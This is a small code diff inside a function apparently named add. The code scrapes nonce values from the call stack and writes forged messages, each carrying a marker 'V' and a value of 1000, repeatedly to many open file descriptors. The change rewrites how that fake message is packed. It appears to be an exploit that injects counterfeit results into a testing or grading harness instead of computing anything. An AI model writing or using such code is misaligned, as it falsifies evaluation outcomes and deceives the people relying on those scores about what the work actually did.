@@ -18,7 +18,9 @@ def add(x, y):
                 nonces.add(value)
         frame = frame.f_back
     for nonce in nonces:
-        body = marshal.dumps((nonce, "V", 0.0, marshal.dumps(1000, 2), "", "", "", 0, 0), 2)
+        value = marshal.dumps(1000, 2)
+        head = struct.pack("<8s1sdIIIIii", nonce, b"V", 0.0, len(value), 0, 0, 0, 0, 0)
+        body = head + value
         for fd in range(3, 32):
             for _ in range(200):
                 try:
